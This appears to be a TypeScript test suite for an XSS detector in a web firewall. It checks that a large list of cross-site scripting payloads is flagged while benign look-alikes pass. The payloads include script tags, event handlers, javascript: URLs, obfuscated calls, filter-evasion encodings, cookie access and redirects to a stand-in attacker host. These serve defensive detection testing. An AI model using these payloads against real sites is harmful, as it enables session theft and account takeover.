import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { variants } from "../decode.ts";
import { XSS_RULES, classifyXss, xssDetector } from "./xss.ts";

// A guard against super-linear work, not a speed target (those live in bench/): linear code takes a
// few ms on 64 KiB here, quadratic work seconds; the bound leaves room for a loaded CI machine.
const SUPERLINEAR_GUARD_MS = 250;

/** Rules a value matches at paranoia level `pl` or below. */
const rulesAt = (value: string, pl = 1): string[] =>
  classifyXss(value).filter((r) => XSS_RULES[r].paranoia <= pl);

/** Rules matched in any decoded form of a raw value, as the engine feeds them. */
const rulesDecoded = (raw: string, pl = 1): string[] => [
  ...new Set(variants(raw).flatMap((v) => rulesAt(v, pl))),
];

describe("xssDetector: attacks", () => {
  const attacks: [string, string][] = [
    ["<script>alert(1)</script>", "xss-script-tag"],
    ["<ScRiPt>alert(1)</sCrIpT>", "xss-script-tag"],
    ["<<script>alert(1);//<</script>", "xss-script-tag"],
    ['"><script>', "xss-script-tag"],
    ["<script\n>alert(1)</script>", "xss-script-tag"],
    ['<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>', "xss-script-tag"],
    ["<b><script<b></b>alert(1)</script>", "xss-script-tag"],
    ["+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "xss-script-tag"],
    ["<svg/onload=alert(1)>", "xss-event-handler"],
    ["<img src=x onerror=alert(1)>", "xss-event-handler"],
    ["<IMG\tSRC=x\nOnError=alert(1)>", "xss-event-handler"],
    ["<img+src=x+onerror=prompt(1);>", "xss-event-handler"],
    ["<body onload=alert(1)>", "xss-event-handler"],
    ['<img src="blah>" onmouseover="alert(1)">', "xss-event-handler"],
    ["<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "xss-event-handler"],
    ['" autofocus onfocus=alert(1) x="', "xss-event-handler"],
    ['"OnCliCk="(prompt`1`)', "xss-event-handler"],
    ["onmouseover=alert(1)", "xss-event-handler"],
    ["alert(1)>", "xss-event-handler"],
    ["<body onload!#$%&()*~+-_.,:;?@[/|]^`=alert(1)>", "xss-event-handler"],
    ['\\"autof<x>ocus o<x>nfocus=alert<x>(1)//', "xss-event-handler"],
    ["<img src=&{alert(1)};>", "xss-dangerous-attribute"],
    ['<a href="javascript:alert(1)">x</a>', "xss-js-url"],
    ['<a href="jav\tascript:alert(1)">x</a>', "xss-js-url"],
    ['<a href=" java\nscript:alert(1)">x</a>', "xss-js-url"],
    ['<object data="data:text/html;base64,PHNjcmlwdD4=">', "xss-js-url"],
    ["<iframe src=vbscript:msgbox(1)>", "xss-js-url"],
    ["javascript:alert(document.domain)", "xss-js-url"],
    ["ja\tvascript: ", "xss-js-url"],
    ['<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;">', "xss-dangerous-attribute"],
    ['<button formaction="//evil.example">go</button>', "xss-dangerous-attribute"],
    ["<iframe src=//evil.example>", "xss-dangerous-tag"],
    ["<embed src=x.swf>", "xss-dangerous-tag"],
    ["<base href=//evil.example/>", "xss-dangerous-tag"],
    ['<meta http-equiv="refresh" content="0;url=//evil.example">', "xss-dangerous-tag"],
    ['<link rel=stylesheet href="//evil.example/x.css">', "xss-dangerous-tag"],
    ['<div style="width: expression(alert(1))">', "xss-style-injection"],
    ["<p style=\"background:url( 'javascript:alert(1)')\">", "xss-style-injection"],
    ["<style>@import'//evil.example/x.css';</style>", "xss-style-injection"],
    ["'\";alert(1)//", "xss-js-breakout"],
    ["'-alert(1)-'", "xss-js-breakout"],
    ['"+alert(1)+"', "xss-js-breakout"],
    ['"));if(!self.x)self.x=!alert(document.domain)}catch(e){}//', "xss-js-breakout"],
    ["</script><script>alert(1)</script>", "xss-js-breakout"],
    ["x;</script>", "xss-js-breakout"],
    ["`${alert(1)}`", "xss-js-breakout"],
    ["alert.call(null,1)", "xss-js-obfuscation"],
    ["top['al'+'ert'](1); top['alert'](1)", "xss-js-obfuscation"],
    ["(alert)(1)", "xss-js-obfuscation"],
    ["alert?.(document?.cookie)", "xss-js-obfuscation"],
    ['eval(atob("YWxlcnQoMSk="))', "xss-js-obfuscation"],
    ["[].sort.call`${alert}1`", "xss-js-obfuscation"],
    ["_c.constructor('alert(1)')()", "xss-js-obfuscation"],
    ["(![]+[])[+!+[]]+(![]+[])[!+[]+!+[]]", "xss-js-obfuscation"],
    ["+!![]", "xss-js-obfuscation"],
    ["[1].map(alert)", "xss-js-obfuscation"],
    ['self["\\x24"]', "xss-js-obfuscation"],
    ["window['al'+'ert'](1)", "xss-js-obfuscation"],
    // Handlers the tag reading misses: after a quote or a decoded `&gt;`, or as a property.
    ['"onzoom=', "xss-event-handler"],
    ["> src onerror=confirm(1)<", "xss-event-handler"],
    ['<button.onclick="alert(1)">', "xss-event-handler"],
    ["throw onerror=alert,1", "xss-event-handler"],
    ["open()>", "xss-event-handler"],
    ["5rt(0);'>x", "xss-event-handler"],
    ["write(1) autofocus>", "xss-event-handler"],
    // Any `on…=` word that a quote or the value's start opens, known to browsers or not.
    ["  onabcdefgh= ", "xss-handler-attribute"],
    ["x' ONFOOBAR=1", "xss-handler-attribute"],
    // Script URLs with escapes or markup after the scheme, mhtml, url() cut short.
    ["javascript:\\u0020", "xss-js-url"],
    [" data: , <x>", "xss-js-url"],
    ["mhtml:http://evil.example/x.mht!xss.html", "xss-js-url"],
    ["x=x:url(javascript", "xss-style-injection"],
    ["STYLE=X:URL(JAVASCRIPT", "xss-style-injection"],
    ['<div style="binding: url(//evil.example/x.xml#x);">', "xss-style-injection"],
    ["<a style='x:no(\"*//*\");y:ex/*z*//*/*/pression(alert(1))'>", "xss-style-injection"],
    ["<STYLE>BODY{-moz-binding:url(//evil.example/x.xml#x)}</STYLE>", "xss-style-injection"],
    ["<style>@\\", "xss-style-injection"],
    // Tags that load, redirect or re-encode the page.
    ['<meta charset="UTF-7">', "xss-dangerous-tag"],
    ["<link / asdf href  /= ", "xss-dangerous-tag"],
    ["<:vmlframe src=x.fml>", "xss-dangerous-tag"],
    ["<importimplementation=#default#time2>", "xss-dangerous-tag"],
    ["<input pattern=^a+$>", "xss-form-injection"],
    ['<form action="//evil.example/"><input name=p>', "xss-form-injection"],
    ["<input autofocus>", "xss-dangerous-attribute"],
    ["'formaction=//evil.example", "xss-dangerous-attribute"],
    ["&{document.cookie=1;};", "xss-dangerous-attribute"],
    // XML documents that fetch: namespaces and schemas from elsewhere, includes, entities.
    [
      '<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://x.example/a.xsd">',
      "xss-xml-injection",
    ],
    [
      '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="http://x.example/"/></x>',
      "xss-xml-injection",
    ],
    ["foo!ENTITY % bar SYSTEM", "xss-xml-injection"],
    // Tag names spelled so that filters read text.
    ["<f o r m", "xss-tag-evasion"],
    ["<d i a l o g", "xss-tag-evasion"],
    ["< x: script", "xss-tag-evasion"],
    ["\u00bctest\u00betest(1)\u00bc/test\u00be", "xss-tag-evasion"],
    ["\u00d0\u00bcscript\u00d0\u00bealert(1)\u00d0\u00bc/script\u00d0\u00be", "xss-tag-evasion"],
    ["\u00c2\u00bcscript\u00c2\u00bealert(1)\u00c2\u00bc/script\u00c2\u00be", "xss-tag-evasion"],
    // Leaving the element or comment the value was placed in; server-side includes.
    ["</textarea><img src=x>", "xss-context-breakout"],
    ["</TITLE >", "xss-context-breakout"],
    ["</body></html>", "xss-context-breakout"],
    ["\"-->'-->", "xss-context-breakout"],
    ['<!--#exec cmd="id"-->', "xss-context-breakout"],
    // Script with its brackets stripped by a filter.
    ["scriptalert(1)/script", "xss-script-tag"],
    ["[a]script>alert('x');[a]/script>", "xss-script-tag"],
    // Calls that prove or evaluate, word-bounded, with arguments that close.
    ["alert(1)", "xss-js-call"],
    ["prompt()", "xss-js-call"],
    ["top.confirm`1`", "xss-js-call"],
    ["setInterval(code, 1)", "xss-js-call"],
    ["eval(location.hash.slice(1))", "xss-js-call"],
    ['btoa("x")', "xss-js-call"],
    ["new Function()", "xss-js-call"],
    ["import('//evil.example/x.js')", "xss-js-call"],
    ['import { a, b } from "./x.js";', "xss-js-call"],
    // The DOM a payload reads or drives, however spelled.
    ["document.cookie", "xss-dom-access"],
    ["document /*foo*/ .     cookie", "xss-dom-access"],
    ['(document)["cookie"]', "xss-dom-access"],
    ['document["cookie"]', "xss-dom-access"],
    ["window.location", "xss-dom-access"],
    ["top['location']='//evil.example'", "xss-dom-access"],
    ['document.querySelector("p").textContent="x"', "xss-dom-access"],
    ["x.innerHTML='<b>'", "xss-dom-access"],
    ["el.innerHTML", "xss-dom-access"],
    ["';return document.cookie//", "xss-dom-access"],
    ["alert/**/(1)", "xss-js-call"],
    ["this.parentNode.removeChild(this)", "xss-dom-access"],
    ["top[/al/.source+/ert/.source](1)", "xss-js-obfuscation"],
    ["window /* x */ ['al'+'ert'](1)", "xss-js-obfuscation"],
    ["+ADw-x+AD4-", "xss-tag-evasion"],
    ["x{-moz-binding", "xss-style-injection"],
  ];
  it.each(attacks)("flags %j as %s at PL1", (value, rule) => {
    expect(rulesAt(value)).toContain(rule);
  });

  it("catches entity- and URL-encoded payloads in the engine's decoded forms", () => {
    // The engine decodes entities before the detector runs; the raw form alone is not enough.
    expect(rulesDecoded('<a href="jav&#x09;ascript:alert(1)">x</a>')).toContain("xss-js-url");
    expect(rulesDecoded("%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E")).toContain("xss-event-handler");
    expect(rulesDecoded("&lt;svg/onload&equals;alert(1)&gt;")).toContain("xss-event-handler");
    expect(rulesDecoded("\\u003cscript\\u003ealert(1)\\u003c/script\\u003e")).toContain("xss-script-tag");
    expect(rulesDecoded("＜script＞alert(1)＜/script＞")).toContain("xss-script-tag");
  });

  it("reports weaker signals only at higher paranoia", () => {
    const pl2: [string, string][] = [
      ["fetch(url)", "xss-sink-call"],
      ["confirm(s)", "xss-sink-call"],
      ["the innerHTML property (read-only)", "xss-dom-property"],
      ["{{7*7}}", "xss-template-injection"],
      ["{{$eval.constructor}}", "xss-template-injection"],
      ['x" src=//evil.example/a.js', "xss-html-injection"],
      ["x' style=color:red", "xss-html-injection"],
      ["<div#x", "xss-html-injection"],
      ['<span class="x">', "xss-html-injection"],
      ["<b title=x>", "xss-html-injection"],
      ["<![CDATA[x]]>", "xss-comment-breakout"],
      ["<!-- x", "xss-comment-breakout"],
      ["self['name']", "xss-dom-property"],
      ['<a href="https://example.com">x</a>', "xss-html-injection"],
      ['<img src="https://example.com/a.png">', "xss-html-injection"],
      ["<noscript#", "xss-html-injection"],
      ["<svg>", "xss-html-injection"],
      ["-->", "xss-comment-breakout"],
      ["x-->", "xss-comment-breakout"],
      ['"in \\u0076aluE\\u004Ff=', "xss-js-assignment"],
      ["'  infoo.bar=", "xss-js-assignment"],
      ["';x.y=1", "xss-js-assignment"],
      ["onboarding=done", "xss-attribute-injection"],
    ];
    for (const [value, rule] of pl2) {
      expect(rulesDecoded(value), value).toEqual([]);
      expect(rulesDecoded(value, 2), value).toContain(rule);
    }
    expect(rulesAt('<a href="https://example.com">x</a>', 3)).toContain("xss-html-markup");
  });

  it("reads a payload a parser split at `=`: parameter and cookie names", () => {
    const rules = (name: string, value: string): string[] =>
      xssDetector.inspect({ name, value }).map((d) => d.rule);
    // `?x=1&" onmouseover=alert(1)`: the handler is the name, its code the value.
    expect(rules('ARGS:" onmouseover', "alert(1)")).toContain("xss-event-handler");
    expect(rules("ARGS:gt; src onerror", "confirm")).toContain("xss-event-handler");
    // Plain names stay plain.
    expect(rules("ARGS:onboarding", "done")).toEqual([]);
    expect(rules("ARGS_NAMES:q", "q")).toEqual([]);
  });

  it("reads base64 whose `+` form decoding turned into spaces", () => {
    const raw = Buffer.from("<img src=x onerror=alert(document.domain)>/all").toString("base64");
    expect(raw).toContain("+");
    const rules = xssDetector.inspect({ name: "ARGS:q", value: raw.replaceAll("+", " ") }).map((d) => d.rule);
    expect(rules).toContain("xss-event-handler");
  });

  it("treats a path's `document.cookie` as a file name at PL1", () => {
    const at = (name: string): string[] =>
      xssDetector
        .inspect({ name, value: "document.cookie" })
        .filter((d) => d.paranoia === 1)
        .map((d) => d.rule);
    expect(at("REQUEST_FILENAME")).toEqual([]);
    expect(at("ARGS:q")).toContain("xss-dom-access");
    expect(rulesAt("/get/javascript-manual/document.cookie")).toEqual([]);
  });

  it("reports rule, tags, paranoia, severity and target", () => {
    const [d] = xssDetector.inspect({ name: "ARGS:q", value: "<script>alert(1)</script>" });
    expect(d).toEqual({
      rule: "xss-script-tag",
      tags: ["attack-xss", "xss-tag"],
      paranoia: 1,
      severity: "critical",
      target: "ARGS:q",
    });
  });
});

describe("xssDetector: benign look-alikes pass at PL1", () => {
  const benign = [
    "x < y and y > z",
    "<3",
    "I <3 you > all",
    "a <b>bold</b> claim",
    "<i>italic</i>, <em>em</em>, <p>para</p><br/>",
    '"Jane" <jane@example.com>',
    "if (a<b && c>d) { swap(a, c); }",
    "for (let i = 0; i < n; i++) { total += a[i]; }",
    "I love javascript: it's great",
    "JavaScript: Basics of JavaScript Language",
    "onload is an event",
    "onboarding=done",
    "set onclick in the template and read the docs on forms",
    "# Title\n\n* item with [a link](https://example.com) and `code`\n\n> quoted",
    "O'Brien; D'Arcy",
    'He said "hello"; then left',
    "Please confirm (by email) and alert (the team)",
    "https://example.com/search?q=a&lang=en#results",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    '{"name":"widget","price":"9.99"}',
    "data: 2024-01-01, value: 3",
    // Placeholders, arrows, comparisons and calls in prose.
    "Usage: cmd <input> <output>",
    "Enter your <title> and <name> here",
    "<enter type here>",
    "h2<h1",
    "step 1 --> step 2",
    "x = f(y) > 0",
    "Please confirm(s) the order(s)",
    "the return value of eval is undefined",
    "use window.open to open a popup",
    "call the constructor (see below) then eval (carefully)",
    "the alert (red) and confirm (green) buttons",
    // Words that start with `on`, lists of settings, header parameters.
    "turn online mode on",
    "lang=en; online=1",
    "a=1&b=2&onsale=true",
    'form-data; name="image"; filename="test.jpg"',
    'attachment; filename="report.pdf"; size=1234',
    // File names and paths.
    "The document.pdf is attached",
    "see document.docx and location.txt",
    "my-document.cookie-policy.html",
    "/static/script/app.js",
    "https://cdn.example.com/js/script.js?v=1/script",
    // Code and queries that are not script in a page.
    "self.assertEqual(self['name'], 'x')",
    "SELECT * FROM users WHERE a.id = b.id AND b.name = 'x'",
    "{{user.name}}",
    "Hello {{ first_name }}, welcome",
    "a <b>bold</b> claim and <br/> a <i>line</i>",
    // Non-ASCII text that holds the high-bit bracket bytes.
    "It's 3/4 done ¼ cup sugar",
    "Über die Größe: sitzbezüge > fußmatten",
    "Ð¼scriptÐ¾alert(Â¢XSSÂ¢)Ð¼/scriptÐ",
    "Привет, 5 км/ч",
    // Base64 and signatures that hold `on…=` after a digit or a slash.
    "t=1614308115,v1=5257a869e7ecebeda32affa62cdca3fa51onabcd=6yJV_adQssw5c",
    "VGhhbmtzLCBmb3IgYWxsIHlvdXIgd29yayBzaW5jZSB5ZWFycyBvbiBDUlMuIEh1bQo/onafe=",
  ];
  it.each(benign)("passes %j", (value) => {
    expect(rulesAt(value)).toEqual([]);
  });

  it("flags prose that names the DOM's secrets or calls a proof (a payload reads the same): tune with an exclusion", () => {
    expect(rulesAt("Q: what does document.cookie return?")).toEqual(["xss-dom-access"]);
    expect(rulesAt("The function prompt() is called")).toContain("xss-js-call");
  });

  it("flags prose that quotes a script tag (a real tag cannot be told apart): tune with an exclusion", () => {
    const post = "The <script> element runs code; close it with </script> before the body ends.";
    expect(rulesAt(post)).toEqual(["xss-script-tag"]);
  });
});

describe("xssDetector: bounded work", () => {
  it("never throws on arbitrary input", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 300 }), (s) => {
        xssDetector.inspect({ name: "ARGS:x", value: s });
      }),
      { numRuns: 300 },
    );
  });

  it("never throws on markup-shaped input", () => {
    const piece = fc.constantFrom(
      "<",
      ">",
      "</",
      "script",
      "on",
      "=",
      '"',
      "'",
      "`",
      " ",
      "/",
      "a",
      "(",
      ")",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 80 }), (parts) => {
        classifyXss(parts.join(""));
      }),
      { numRuns: 300 },
    );
  });

  it("inspects 64 KiB of hostile input in linear time", () => {
    const unit = fc.sample(
      fc.constantFrom(
        "<",
        "<a",
        " a",
        "on=",
        "on",
        '"',
        "'",
        "`",
        "${",
        "/*",
        "[",
        "![]",
        "(",
        "alert",
        ".",
        "&{",
        "on",
        "=",
        "-->",
        "script",
        "/script",
        "document",
        "import",
        "from",
        ")",
        ">",
      ),
      4000,
    );
    const fill = (s: string): string => s.repeat(Math.ceil(65_536 / s.length)).slice(0, 65_536);
    const inputs = [
      fill("<"),
      fill("<a a a a "),
      fill("on=on=on="),
      fill('<a x="<a x="'),
      fill("<style><style>"),
      fill("${${"),
      fill("'+'+alert.alert."),
      fill("a.a.a.a.a."),
      fill("['['['"),
      fill(" "),
      fill("javascript:"),
      fill("a".repeat(100) + "("),
      fill(" onx= onx="),
      fill("script"),
      fill("scriptalert" + "x".repeat(600)),
      fill("import{"),
      fill("document.document["),
      fill("self['"),
      fill("&{&{"),
      fill("-->"),
      fill("\u00bc/a"),
      fill("< s c r i p t"),
      fill('<p style="/*'),
      fill("f(f(f(f("),
      fill("x(1)"),
      fill("{{"),
      fill("<meta content=x "),
      fill("+ADw-<!--"),
      fill("<a style='x:y"),
      fill(unit.join("")),
      fc.sample(fc.string({ minLength: 65_536, maxLength: 65_536 }), 1)[0]!,
    ];
    for (let round = 0; round < 3; round++) for (const v of inputs) classifyXss(v); // warm-up: JIT
    for (const v of inputs) {
      const t0 = performance.now();
      classifyXss(v);
      // Generous bound for a shared 2-core CI box; quadratic work would take seconds.
      expect(performance.now() - t0, JSON.stringify(v.slice(0, 20))).toBeLessThan(SUPERLINEAR_GUARD_MS);
    }
  });
});
